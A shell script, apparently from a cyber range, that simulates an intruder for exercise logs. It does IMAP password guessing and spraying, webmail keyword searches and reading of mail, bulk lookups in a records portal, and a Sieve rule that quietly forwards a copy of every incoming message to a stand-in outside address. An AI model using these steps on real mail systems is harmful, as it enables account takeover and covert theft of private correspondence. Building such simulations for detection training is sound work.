# theirs.sh: what intruders do, for the files of intrusions/.

# try_imap LOGIN ADDRESS PASSWORD...: refused, one after another.
try_imap()
{
	try_login=$1 try_from=$2
	shift 2
	for secret; do
		note_try "$try_from" "$try_login"
		ask "$try_from" -u "$try_login@$DOMAIN:$secret" "imaps://$(host_for "$try_from")/" >/dev/null
	done
	pause 3				# a stamp of seconds tells no order within one
}

# try_each ADDRESS PASSWORD LOGIN...: one password, many accounts, at a time.
try_each()
{
	each_from=$1 each_secret=$2
	shift 2
	for login; do
		note_try "$each_from" "$login"
		ask "$each_from" -u "$login@$DOMAIN:$each_secret" "imaps://$(host_for "$each_from")/" >/dev/null &
		sleep 0.1
	done
	wait
}

# webmail_night LOGIN ADDRESS N [WORDS]: look for words, then read the N newest.
webmail_night()
{
	session_open webmail "$1" "$2"
	webmail_open "$1" "$2"
	pause 40
	for word in ${4-}; do
		webmail_search "$1" "$2" "$word"
		pause 45
	done
	night_uid=$(inbox_count "$1")
	night_left=$3
	while [ "$night_left" -gt 0 ] && [ "$night_uid" -gt 0 ]; do
		webmail_show "$1" "$2" "$night_uid"
		pause 50
		night_uid=$((night_uid - 1)) night_left=$((night_left - 1))
	done
	session_close
}

# search_records ADDRESS REGISTER NAME PAGES
search_records()
{
	page=0
	while [ $page -lt "$4" ]; do
		portal_ask "$1" search summary "$2" verification PV-2025-0412 "name=$3" "from=$((page * 50))"
		page=$((page + 1))
		pause 20
	done
	row searches portal "$2" "$3"
}

# open_records ADDRESS REGISTER N: full records from the list just seen.
open_records()
{
	grep -o '[TF][AP][JR]-[0-9]*' "$ACT/page" | sort -u | sed -n '1~4p' | head -n "$3" >"$ACT/ids"
	while read -r id; do
		portal_ask "$1" record full "$2" verification PV-2025-0412 "id=$id"
		pause 30
	done <"$ACT/ids"
}

# sieve_forward LOGIN ADDRESS: a copy of all that comes leaves from now on.
sieve_forward()
{
	session_open managesieve "$1" "$2"
	secret=$(printf '\0%s\0%s' "$1@$DOMAIN" "$(password_of "$1")" | base64 -w0)
	php /range/talk.php "$2" 192.0.2.10 4190 >/dev/null <<-END
	?OK
	STARTTLS
	?OK
	!tls
	?OK
	AUTHENTICATE "PLAIN" "$secret"
	?OK
	PUTSCRIPT "suivi" {55+}
	require "copy";
	redirect :copy "releve@boite.example";
	?OK
	SETACTIVE "suivi"
	?OK
	LOGOUT
	?OK
	END
	session_close
	row changes sieve_forward "$(account_of "$1")"
}
